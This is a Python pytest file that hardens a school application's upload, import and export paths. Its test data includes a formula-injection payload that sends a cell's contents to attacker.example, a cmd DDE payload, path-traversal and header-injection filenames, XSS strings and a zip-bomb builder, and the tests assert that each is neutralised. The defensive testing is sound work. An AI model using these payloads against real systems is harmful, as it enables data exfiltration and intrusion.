"""Hostile files: uploads of the wrong kind, too big, decompression bombs and path tricks in names; imports
in broken encodings; and formulas typed into text fields, which every XLSX/CSV export keeps as text."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from kit.storage import (
    MAX_UNPACKED_BYTES,
    FileTooLargeError,
    check_archive,
    neutralise_formulas,
    spreadsheet_text,
)
from tests.hardening.conftest import HardWorld

PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
PROBLEM = "application/problem+json"


def bomb(parts: dict[str, str], *, inflated: int) -> bytes:
    """A valid OOXML container whose filler member unpacks to ``inflated`` zero bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open(
            "xl/filler.bin" if "xl/workbook.xml" in parts else "word/filler.bin", "w"
        ) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(inflated >> 20):
                member.write(chunk)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def docx_bomb() -> bytes:
    return bomb({"word/document.xml": "<w:document/>"}, inflated=MAX_UNPACKED_BYTES * 2)


@pytest.fixture(scope="module")
def xlsx_bomb() -> bytes:
    return bomb({"xl/workbook.xml": "<workbook/>"}, inflated=MAX_UNPACKED_BYTES * 2)


def _upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> dict[str, Any]:
    return {"files": {"file": (name, data, content_type)}}


async def _evidence(api: dict[str, Any], user: Any, name: str, data: bytes, content_type: str) -> Any:
    return await api["schools"].post("/files", headers=user.headers, **_upload(name, data, content_type))


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("photo.jpg", b"<html><script>alert(1)</script></html>", "image/jpeg"),
        ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/png"),
        ("plan.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 100, "application/pdf"),
        ("plan.pdf", b"MZ\x90\x00\x03" + b"\0" * 100, "application/pdf"),
        ("a.jpg", b"GIF89a<script>alert(1)</script>", "image/jpeg"),
        ("report.docx", b"PK\x03\x04 not really a zip", "application/msword"),
    ],
)
async def test_an_upload_is_judged_by_its_content_not_its_name_or_declared_type(
    api: dict[str, Any], hard_world: HardWorld, name: str, data: bytes, declared: str
):
    principal = hard_world.schools["A"].users["principal"]
    response = await _evidence(api, principal, name, data, declared)
    assert response.status_code == 415, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    assert response.json()["errors"][0]["key"] == "file"


async def test_a_real_file_under_a_lying_name_is_stored_as_what_it_is(
    api: dict[str, Any], hard_world: HardWorld
):
    principal = hard_world.schools["A"].users["principal"]
    response = await _evidence(api, principal, "photo.png", PDF, "image/png")
    assert response.status_code == 201, response.text
    assert response.json()["content_type"] == "application/pdf"


async def test_empty_and_oversized_uploads_get_a_clear_4xx(api: dict[str, Any], hard_world: HardWorld):
    from schools.domain.evidence.service import MAX_FILE_BYTES

    principal = hard_world.schools["A"].users["principal"]
    empty = await _evidence(api, principal, "empty.pdf", b"", "application/pdf")
    huge = await _evidence(api, principal, "huge.pdf", PDF + b"\0" * MAX_FILE_BYTES, "application/pdf")
    assert empty.status_code in (400, 422), empty.text
    assert huge.status_code == 413, huge.text
    for response in (empty, huge):
        assert response.headers["content-type"].startswith(PROBLEM)


async def test_a_decompression_bomb_is_refused_before_anything_unpacks_it(
    api: dict[str, Any], hard_world: HardWorld, docx_bomb: bytes, xlsx_bomb: bytes
):
    assert len(docx_bomb) < 1024 * 1024  # a small upload that would unpack to 128 MiB
    principal, bureau = hard_world.schools["A"].users["principal"], hard_world.bureaus["X"]
    started = time.monotonic()
    as_evidence = await _evidence(api, principal, "plan.docx", docx_bomb, "application/octet-stream")
    as_import = await api["schools"].post(
        "/schools/imports", headers=bureau.headers, **_upload("list.xlsx", xlsx_bomb)
    )
    assert time.monotonic() - started < 2.0
    assert as_evidence.status_code == 413, as_evidence.text
    assert as_import.status_code == 413, as_import.text


@pytest.mark.parametrize(
    "name",
    [
        "../../../../../tmp/pwned.pdf",
        "..\\..\\..\\windows\\win.ini.pdf",
        "/etc/passwd.pdf",
        "C:\\boot.ini.pdf",
        "a\x00b.pdf",
        "evil\r\nX-Injected: 1.pdf",
        '"; filename=other.exe.pdf',
        "<img src=x onerror=alert(1)>.pdf",
        "%2e%2e%2f%2e%2e%2fetc.pdf",
        "長い名前" * 200 + ".pdf",
    ],
)
async def test_path_tricks_in_a_filename_stay_a_harmless_name(
    api: dict[str, Any], hard_world: HardWorld, name: str, tmp_path: Path
):
    principal = hard_world.schools["A"].users["principal"]
    response = await _evidence(api, principal, name, PDF, "application/pdf")
    if response.status_code != 201:  # refusing the name outright is fine too, if said clearly
        assert response.status_code in (400, 422), response.text
        return
    stored = response.json()["filename"]
    assert not ({"/", "\\", "\0", "\r", "\n"} & set(stored)), stored
    assert not stored.startswith(".")
    download = await api["schools"].get(f"/files/{response.json()['id']}/content", headers=principal.headers)
    assert download.status_code == 200
    assert download.content == PDF
    disposition = download.headers["content-disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.count('"') == 2  # one quoted ASCII name; nothing breaks out of it
    assert "X-Injected" not in download.headers
    assert not Path("/tmp/pwned.pdf").exists()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("schools.csv", bytes(range(128, 256)) * 40),  # neither UTF-8 nor GB18030
        ("schools.csv", "学校代码,学校名称\n".encode("utf-16")),  # a BOM nobody asked for
        ("schools.csv", b"\xef\xbb\xbf"),  # a BOM and nothing else
        ("schools.xlsx", b"code,name\n1,2\n"),  # CSV under an XLSX name
        ("schools.xlsx", PNG),
        ("schools.exe", b"MZ\x90\x00"),
    ],
)
async def test_a_broken_import_file_gets_a_clear_4xx_and_writes_nothing(
    api: dict[str, Any], hard_world: HardWorld, name: str, data: bytes
):
    bureau = hard_world.bureaus["X"]
    before = (await api["schools"].get("/schools", params={"limit": 1}, headers=bureau.headers)).json()[
        "total"
    ]
    response = await api["schools"].post("/schools/imports", headers=bureau.headers, **_upload(name, data))
    assert response.status_code in (400, 413, 415, 422), response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    after = (await api["schools"].get("/schools", params={"limit": 1}, headers=bureau.headers)).json()[
        "total"
    ]
    assert after == before


async def test_a_formula_typed_into_a_hazard_stays_text_in_the_register_export(
    api: dict[str, Any], hard_world: HardWorld
):
    principal = hard_world.schools["A"].users["principal"]
    created = await api["hazards"].post(
        "/hazards",
        json={"title": FORMULA, "category": "fire", "area": "teaching_buildings", "location_text": "=1+1"},
        headers=principal.headers,
    )
    assert created.status_code == 201, created.text
    export = await api["hazards"].get("/exports/register.xlsx", headers=principal.headers)
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in (FORMULA, "=1+1")]
    assert len(cells) == 2
    assert {cell.data_type for cell in cells} == {"s"}  # stored as text: the spreadsheet never runs it
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_every_export_helper_neutralises_what_a_spreadsheet_would_run():
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([FORMULA, "-2+3", "@SUM(1)", "正常文本", 42])
    neutralise_formulas(workbook)
    saved = io.BytesIO()
    workbook.save(saved)
    reopened = load_workbook(io.BytesIO(saved.getvalue())).worksheets[0]
    assert [c.data_type for c in reopened[1]] == ["s", "s", "s", "s", "n"]
    assert reopened["A1"].value == FORMULA

    out = io.StringIO()
    csv.writer(out).writerow(
        [spreadsheet_text(v) for v in ["=cmd|' /C calc'!A0", "+1", "-1", "@x", "\tx", "ok", 3]]
    )
    assert out.getvalue().strip() == "'=cmd|' /C calc'!A0,'+1,'-1,'@x,'\tx,ok,3"


def test_the_archive_check_reads_only_the_directory_and_lets_honest_documents_through(xlsx_bomb: bytes):
    honest = io.BytesIO()
    Workbook().save(honest)
    check_archive(honest.getvalue())
    check_archive(PDF)
    started = time.monotonic()
    with pytest.raises(FileTooLargeError):
        check_archive(xlsx_bomb)
    assert time.monotonic() - started < 0.5
